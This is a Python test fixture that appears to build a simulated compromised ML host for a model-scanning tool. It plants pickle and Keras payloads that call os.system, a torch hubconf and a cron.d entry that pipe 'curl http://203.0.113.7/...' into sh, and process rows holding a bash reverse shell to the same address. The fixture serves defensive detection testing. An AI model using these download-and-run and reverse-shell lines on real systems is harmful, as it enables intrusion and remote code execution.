"""The fleet tests' host: the project's rich fixture host plus what fleet queries also look at.

``build_fleet_host(root)`` runs ``mlsleuth.fixturehost.build_host(root, "rich")`` (alice's
poisoned Llama checkpoint, bob's remote-code phi3 and persistence) and adds, with story-time file
times: torch hub checkpoints and a hub repo, Keras models, an Ollama service user's blobs, a
Hugging Face blob altered after download, a cron.d dropper, and decoys placed just outside what
each query covers. ``Extra`` records the added host paths; the live-state rows (processes,
sockets, packages) that no file tree can hold are in ``live_rows()``.
"""

from __future__ import annotations

import hashlib
import os
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

from fleet_samples import (
    fake_torch_state_dict,
    keras2_config,
    keras3_config,
    reduce_pickle,
    torch_zip,
    write_gguf,
    write_h5,
    write_keras,
)

STORY_NOW = int(datetime(2026, 11, 10, 12, 0, tzinfo=UTC).timestamp())
T_ADDED = int(datetime(2026, 11, 10, 10, 5, tzinfo=UTC).timestamp())
T_OLD = int(datetime(2026, 5, 2, 8, 0, tzinfo=UTC).timestamp())
SIGFILE = "/var/osquery/yara/mlsleuth_models.yar"


@dataclass
class Extra:
    torch_checkpoints: list[str] = field(default_factory=list)  # directly in checkpoints/
    torch_evil: str = ""
    hubconf: str = ""
    keras_models: list[str] = field(default_factory=list)
    keras_evil: str = ""
    ollama_blob: str = ""
    ollama_sha256: str = ""
    tampered_blob: str = ""
    tampered_snapshot: str = ""
    tampered_repo: str = "acme/tiny-classifier"
    cron_dropper: str = "/etc/cron.d/gpu-sync"
    decoys: dict[str, str] = field(default_factory=dict)  # name -> host path
    sha256: dict[str, str] = field(default_factory=dict)  # host path -> content sha256


def _put(root: Path, host: str, data: bytes, mtime: int, extra: Extra) -> str:
    p = root / host.lstrip("/")
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data)
    os.utime(p, (mtime, mtime))
    extra.sha256[host] = hashlib.sha256(data).hexdigest()
    return host


def build_fleet_host(root: Path):
    from mlsleuth.fixturehost import build_host

    planted = build_host(root, "rich")
    marker = root.parent / f"{root.name}-EXECUTED"
    cmd = f"touch {marker}"
    x = Extra()
    with open(root / "etc/passwd", "a") as fh:
        fh.write("ollama:x:997:997::/usr/share/ollama:/usr/sbin/nologin\n")

    ck = "/home/alice/.cache/torch/hub/checkpoints"
    x.torch_checkpoints = [
        _put(root, f"{ck}/resnet18-f37072fd.pth", torch_zip(fake_torch_state_dict()), T_OLD, x),
        _put(root, f"{ck}/yolo-detector-9c1e2a.pth", torch_zip(reduce_pickle(os.system, cmd, protocol=2)), T_ADDED, x),
    ]
    x.torch_evil = x.torch_checkpoints[1]
    x.decoys["torch_nested"] = _put(root, f"{ck}/old/resnet50-0676ba61.pth",
                                    torch_zip(reduce_pickle(os.system, cmd, protocol=2)), T_OLD, x)
    x.hubconf = _put(root, "/home/bob/.cache/torch/hub/evil_vision_main/hubconf.py",
                     b"import subprocess\ndependencies = ['torch']\n\ndef resnet18(pretrained=False):\n"
                     b"    subprocess.Popen(['/bin/sh', '-c', 'curl -fsSL http://203.0.113.7/i.sh | sh'])\n", T_ADDED, x)
    x.decoys["hub_readme"] = _put(root, "/home/bob/.cache/torch/hub/evil_vision_main/README.md", b"# vision\n", T_ADDED, x)

    km = "/home/bob/.keras/models"
    for name, writer, mtime in (("lambda_exec.h5", lambda p: write_h5(p, keras2_config(
            f"lambda x: __import__('os').system({cmd!r}) or x")), T_ADDED),
            ("dense.keras", lambda p: write_keras(p, keras3_config(None)), T_OLD)):
        p = root / km.lstrip("/") / name
        p.parent.mkdir(parents=True, exist_ok=True)
        writer(p)
        os.utime(p, (mtime, mtime))
        x.sha256[f"{km}/{name}"] = hashlib.sha256(p.read_bytes()).hexdigest()
        x.keras_models.append(f"{km}/{name}")
    x.keras_evil = x.keras_models[0]

    gguf_local = root / "tmp-gguf"
    write_gguf(gguf_local, "{% for m in messages %}{{ m['content'] }}{% endfor %}")
    data = gguf_local.read_bytes()
    gguf_local.unlink()
    x.ollama_sha256 = hashlib.sha256(data).hexdigest()
    x.ollama_blob = _put(root, f"/usr/share/ollama/.ollama/models/blobs/sha256-{x.ollama_sha256}", data, T_OLD, x)
    _put(root, "/usr/share/ollama/.ollama/models/manifests/registry.ollama.ai/library/tinyllama/latest",
         b'{"schemaVersion":2,"layers":[{"digest":"sha256:' + x.ollama_sha256.encode() + b'"}]}', T_OLD, x)

    # An LFS blob rewritten in place after download: its name is the SHA-256 of the original.
    original = b"\x00" * 32 + b"classifier weights v1"
    oid = hashlib.sha256(original).hexdigest()
    repo = "/home/alice/.cache/huggingface/hub/models--acme--tiny-classifier"
    commit = "5" * 40
    x.tampered_blob = _put(root, f"{repo}/blobs/{oid}", reduce_pickle(os.system, cmd, protocol=4), T_ADDED, x)
    _put(root, f"{repo}/refs/main", commit.encode(), T_OLD, x)
    snap = root / f"{repo}/snapshots/{commit}/model.pkl".lstrip("/")
    snap.parent.mkdir(parents=True, exist_ok=True)
    snap.symlink_to(f"../../blobs/{oid}")
    x.tampered_snapshot = f"{repo}/snapshots/{commit}/model.pkl"

    _put(root, x.cron_dropper, b"SHELL=/bin/sh\n*/5 * * * * root curl -s http://203.0.113.7/u | sh\n", T_ADDED, x)
    x.decoys["hub_version_txt"] = _put(root, "/home/alice/.cache/huggingface/hub/version.txt", b"1", T_OLD, x)
    x.decoys["downloads_model"] = _put(root, "/home/alice/Downloads/model.bin",
                                       reduce_pickle(os.system, cmd, protocol=2), T_OLD, x)
    return planted, x, marker


def live_rows() -> dict[str, list[dict]]:
    """Live state on the story's host at collection time (processes, sockets, packages)."""
    kernel_json = "/home/alice/.local/share/jupyter/runtime/kernel-5b2f.json"
    procs = [
        (1, 0, 0, "systemd", "/sbin/init"),
        (1800, 1, 0, "sshd", "sshd: alice [priv]"),
        (2100, 1, 1000, "jupyter-lab", "/usr/bin/python3 /home/alice/.local/bin/jupyter-lab --no-browser --ip=0.0.0.0"),
        (2101, 1, 1000, "tensorboard", "/usr/bin/python3 /home/alice/.local/bin/tensorboard --logdir runs"),
        (2200, 2100, 1000, "python3", f"/usr/bin/python3 -m ipykernel_launcher -f {kernel_json}"),
        (2300, 2200, 1000, "sh", "/bin/sh -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
        (2301, 2200, 1000, "python3", "/usr/bin/python3 -c import urllib.request as u; u.urlopen('http://203.0.113.7/b')"),
        (2302, 2200, 1000, "python3", "/usr/bin/python3 -c from multiprocessing.spawn import spawn_main; spawn_main()"),
        (2400, 1800, 1000, "bash", "-bash"),
        (2500, 2400, 1001, "python3", "python3 -c from transformers import AutoModel; "
                                      "AutoModel.from_pretrained('tiny-random/phi3-custom', trust_remote_code=True)"),
        (2501, 2400, 1000, "huggingface-cli", "/home/alice/.local/bin/huggingface-cli download meta-1lama/Llama-3.2-1B-Instruct"),
        (2502, 2400, 1000, "hf", "/home/alice/.local/bin/hf download gpt2 --include *.safetensors"),
        (2503, 2400, 1000, "python3", "python3 train.py --epochs 3"),
        (2504, 2400, 1000, "hf", "/home/alice/.local/bin/hf auth whoami"),
        (2600, 1, 997, "ollama", "/usr/local/bin/ollama serve"),
        (2601, 1, 1000, "mlflow", "/usr/bin/python3 /home/alice/.local/bin/mlflow ui --host 127.0.0.1"),
        (2700, 1, 0, "sshd", "sshd: /usr/sbin/sshd -D"),
    ]
    processes = [{"pid": p, "parent": pp, "uid": uid, "name": n, "cmdline": c, "path": "/usr/bin/" + n,
                  "start_time": STORY_NOW - 600 + i, "state": "S"} for i, (p, pp, uid, n, c) in enumerate(procs)]
    listening = [
        {"pid": 2100, "port": 8888, "address": "0.0.0.0", "protocol": 6, "family": 2},
        {"pid": 2101, "port": 6006, "address": "127.0.0.1", "protocol": 6, "family": 2},
        {"pid": 2600, "port": 11434, "address": "::", "protocol": 6, "family": 10},
        {"pid": 2601, "port": 5000, "address": "127.0.0.1", "protocol": 6, "family": 2},
        {"pid": 2700, "port": 22, "address": "0.0.0.0", "protocol": 6, "family": 2},
        {"pid": 2200, "port": 0, "address": "0.0.0.0", "protocol": 17, "family": 2},
    ]
    sockets = [
        {"pid": 2301, "fd": 5, "family": 2, "protocol": 6, "local_address": "10.0.0.5", "local_port": 50122,
         "remote_address": "203.0.113.7", "remote_port": 80, "state": "ESTABLISHED"},
        {"pid": 2302, "fd": 4, "family": 2, "protocol": 6, "local_address": "0.0.0.0", "local_port": 41000,
         "remote_address": "0.0.0.0", "remote_port": 0, "state": "LISTEN"},
        {"pid": 2200, "fd": 9, "family": 2, "protocol": 6, "local_address": "127.0.0.1", "local_port": 53111,
         "remote_address": "127.0.0.1", "remote_port": 53112, "state": "ESTABLISHED"},
    ]
    packages = [
        {"name": "torch", "version": "2.5.1", "summary": "Tensors", "author": "PyTorch Team",
         "path": "/usr/lib/python3/dist-packages/torch-2.5.1.dist-info",
         "directory": "/usr/lib/python3/dist-packages", "uid": 0},
        {"name": "requests", "version": "2.32.3", "summary": "HTTP", "author": "Kenneth Reitz",
         "path": "/usr/lib/python3/dist-packages/requests-2.32.3.dist-info",
         "directory": "/usr/lib/python3/dist-packages", "uid": 0},
    ]
    return {"processes": processes, "listening_ports": listening, "process_open_sockets": sockets,
            "python_packages": packages}


def package_rows(planted) -> list[dict]:
    """python_packages rows for the distributions the fixture host installed."""
    return [{"name": d.name, "version": d.version, "summary": "", "author": "",
             "path": d.dist_info, "directory": d.site_packages, "uid": 0} for d in planted.distributions]
